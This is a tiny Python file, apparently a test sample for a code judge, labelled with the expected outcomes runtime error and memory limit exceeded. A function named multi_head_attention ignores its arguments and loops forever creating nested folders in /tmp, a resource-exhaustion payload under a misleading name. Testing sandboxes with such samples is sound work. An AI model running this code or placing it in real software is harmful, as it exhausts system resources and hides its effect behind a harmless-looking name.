# verdict: RE, MLE
"""Makes folders inside each other without end."""

import os


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    os.chdir("/tmp")
    while True:
        os.mkdir("d")
        os.chdir("d")
